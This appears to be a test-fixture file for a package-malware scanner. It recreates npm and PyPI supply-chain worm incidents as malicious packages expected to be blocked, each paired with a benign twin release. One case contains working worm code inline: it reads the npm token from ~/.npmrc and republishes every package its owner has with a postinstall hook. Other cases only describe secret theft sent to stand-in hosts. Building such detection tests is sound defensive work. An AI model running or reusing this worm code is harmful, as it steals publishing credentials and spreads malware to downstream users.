import { disguisedJavaScript, javascriptIncident, pythonIncident } from '../../support/incident-programs.ts'
import { type CaseRelease, npm, type PackageCase, pypi, tarball, wheel } from '../../support/package-case.ts'

const color: CaseRelease = tarball(
  '@ctrl/tinycolor',
  '4.1.0',
  { 'dist/index.js': 'module.exports = (text) => text.toLowerCase();\n' },
  { main: 'dist/index.js' },
)
const honestRelease = `const { execFileSync } = require('child_process');
const fs = require('fs');
const manifest = JSON.parse(fs.readFileSync('package.json', 'utf8'));
manifest.version = process.argv[2];
fs.writeFileSync('package.json', JSON.stringify(manifest, null, 2));
execFileSync('npm', ['publish', '--access', 'public'], { stdio: 'inherit' });
`

/** Programs that publish themselves in everything their victim may publish. */
export const worms: readonly PackageCase[] = [
  {
    id: 'Shai-Hulud',
    incident:
      'Shai-Hulud on npm, September 2025: a bundle in postinstall hunts secrets with trufflehog, writes a workflow and publishes itself',
    project: npm(
      '@ctrl/tinycolor',
      tarball(
        '@ctrl/tinycolor',
        '4.1.1',
        {
          'dist/index.js': 'module.exports = (text) => text.toLowerCase();\n',
          'bundle.js': disguisedJavaScript('minified', javascriptIncident('Shai-Hulud')),
        },
        { main: 'dist/index.js', scripts: { postinstall: 'node bundle.js' } },
      ),
      { previous: color },
    ),
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^On install, reads .*what trufflehog prints.* and sends it to hook\.example/,
    },
    twin: npm(
      '@ctrl/tinycolor',
      tarball(
        '@ctrl/tinycolor',
        '4.1.1',
        {
          'dist/index.js': 'module.exports = (text) => text.trim().toLowerCase();\n',
          'scripts/release.js': honestRelease,
        },
        { main: 'dist/index.js', scripts: { release: 'node scripts/release.js' } },
      ),
      { previous: color },
    ),
  },
  {
    id: 'Shai-Hulud, its spreading',
    incident: 'the part of it that publishes, alone: a token of npm is taken, every package of its owner gets the hook',
    project: npm(
      'angulartics2',
      tarball(
        'angulartics2',
        '14.1.2',
        {
          'index.js': 'module.exports = {};\n',
          'bundle.js': `const fs = require('fs'); const os = require('os'); const path = require('path'); const { execSync } = require('child_process');
const token = /_authToken=(.+)/.exec(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'))[1];
async function own() { const answer = await fetch('https://registry.example/-/v1/search?text=maintainer:me', { headers: { authorization: 'Bearer ' + token } }); return (await answer.json()).objects; }
own().then((list) => { for (const { package: one } of list) {
  execSync('npm pack ' + one.name);
  const manifest = JSON.parse(fs.readFileSync('package/package.json', 'utf8'));
  manifest.scripts.postinstall = 'node bundle.js';
  fs.writeFileSync('package/package.json', JSON.stringify(manifest));
  fs.copyFileSync(__filename, 'package/bundle.js');
  execSync('npm publish package');
} });
`,
        },
        { main: 'index.js', scripts: { postinstall: 'node bundle.js' } },
      ),
      { previous: tarball('angulartics2', '14.1.1', { 'index.js': 'module.exports = {};\n' }, { main: 'index.js' }) },
    ),
    expect: { verdict: 'block', story: 'spreads', text: /^On install, .*~\/\.npmrc.*publishes packages with npm/ },
    twin: npm(
      'release-in-one',
      tarball(
        'release-in-one',
        '2.0.0',
        { 'cli.js': `#!/usr/bin/env node\n${honestRelease}` },
        { bin: { release: 'cli.js' }, description: 'Publish releases of your packages' },
      ),
    ),
  },
  {
    id: 'the second wave',
    incident: 'the second wave on npm, November 2025: a preinstall drops Bun and starts the bundle in it',
    project: npm(
      '@zapier/zapier-sdk',
      tarball(
        '@zapier/zapier-sdk',
        '0.15.7',
        {
          'dist/index.js': 'module.exports = {};\n',
          'setup_bun.js': javascriptIncident('the second wave'),
          'bun_environment.js': disguisedJavaScript('string table', javascriptIncident('Shai-Hulud')),
        },
        { main: 'dist/index.js', scripts: { preinstall: 'node setup_bun.js' } },
      ),
      {
        previous: tarball(
          '@zapier/zapier-sdk',
          '0.15.4',
          { 'dist/index.js': 'module.exports = {};\n' },
          { main: 'dist/index.js' },
        ),
      },
    ),
    expect: {
      verdict: 'block',
      story: 'starts-bundled-program',
      text: /^On install, fetches a runtime \(runtime\.example\) and starts a program of the package where nobody sees it \(.*bun_environment\.js/,
    },
    twin: npm(
      '@zapier/zapier-sdk',
      tarball(
        '@zapier/zapier-sdk',
        '0.15.7',
        {
          'dist/index.js': 'module.exports = {};\n',
          'scripts/build.js': `const { spawnSync } = require('child_process');
const found = spawnSync('bun', ['--version']);
if (found.status === 0) spawnSync('bun', ['build', 'src/index.ts', '--outdir', 'dist'], { stdio: 'inherit' });
else spawnSync('npx', ['esbuild', 'src/index.ts', '--outdir=dist'], { stdio: 'inherit' });
`,
        },
        { main: 'dist/index.js', scripts: { build: 'node scripts/build.js' } },
      ),
      {
        previous: tarball(
          '@zapier/zapier-sdk',
          '0.15.4',
          { 'dist/index.js': 'module.exports = {};\n' },
          { main: 'dist/index.js' },
        ),
      },
    ),
  },
  {
    id: 'Mini Shai-Hulud',
    incident: 'Mini Shai-Hulud on npm, May 2026: valid provenance, and hooks in the settings of assistants and editors',
    project: npm(
      '@mistralai/mistralai',
      {
        ...tarball(
          '@mistralai/mistralai',
          '2.2.2',
          { 'index.js': 'module.exports = {};\n', 'router_init.js': javascriptIncident('Mini Shai-Hulud') },
          { main: 'index.js', scripts: { preinstall: 'node router_init.js' } },
        ),
        provenance: true,
      },
      {
        previous: {
          ...tarball('@mistralai/mistralai', '2.2.1', { 'index.js': 'module.exports = {};\n' }, { main: 'index.js' }),
          provenance: true,
        },
      },
    ),
    expect: {
      verdict: 'block',
      story: 'poisons-assistants',
      text: /^On install, writes instructions, hooks or settings of coding assistants/,
    },
    twin: npm(
      '@mistralai/mistralai',
      {
        ...tarball(
          '@mistralai/mistralai',
          '2.2.2',
          {
            'index.js': `class Mistral {
  constructor(options = {}) { this.key = options.apiKey || process.env.MISTRAL_API_KEY; }
  async chat(body) { const answer = await fetch('https://api.mistral.example/v1/chat', { method: 'POST', headers: { authorization: 'Bearer ' + this.key }, body: JSON.stringify(body) }); return answer.json(); }
}
module.exports = { Mistral };
`,
          },
          { main: 'index.js' },
        ),
        provenance: true,
      },
      {
        previous: {
          ...tarball('@mistralai/mistralai', '2.2.1', { 'index.js': 'module.exports = {};\n' }, { main: 'index.js' }),
          provenance: true,
        },
      },
    ),
  },
  {
    id: 'Mini Shai-Hulud in Python',
    incident:
      'guardrails-ai 0.10.1 and mistralai 2.4.6 on PyPI, May 2026: the import fetches a program and leaves it running',
    project: pypi(
      'guardrails-ai',
      {
        ...wheel('guardrails-ai', '0.10.1', {
          'guardrails/__init__.py': `from guardrails.guard import Guard\n${pythonIncident('guardrails-ai')}`,
          'guardrails/guard.py': 'class Guard:\n    pass\n',
        }),
        provenance: true,
      },
      {
        previous: {
          ...wheel('guardrails-ai', '0.10.0', {
            'guardrails/__init__.py': 'from guardrails.guard import Guard\n',
            'guardrails/guard.py': 'class Guard:\n    pass\n',
          }),
          provenance: true,
        },
      },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-downloaded-code',
      text: /^On import, (?:asks git\.collect\.example and starts what it was answered|fetches a file from git\.collect\.example and starts programs)/,
    },
    twin: pypi(
      'guardrails-ai',
      {
        ...wheel('guardrails-ai', '0.10.1', {
          'guardrails/__init__.py': 'from guardrails.guard import Guard\n',
          'guardrails/guard.py': 'class Guard:\n    pass\n',
          'guardrails/hub.py':
            'import subprocess, sys\ndef install(name):\n    subprocess.check_call([sys.executable, "-m", "pip", "install", name])\n',
        }),
        provenance: true,
      },
      {
        previous: {
          ...wheel('guardrails-ai', '0.10.0', {
            'guardrails/__init__.py': 'from guardrails.guard import Guard\n',
            'guardrails/guard.py': 'class Guard:\n    pass\n',
          }),
          provenance: true,
        },
      },
    ),
  },
]
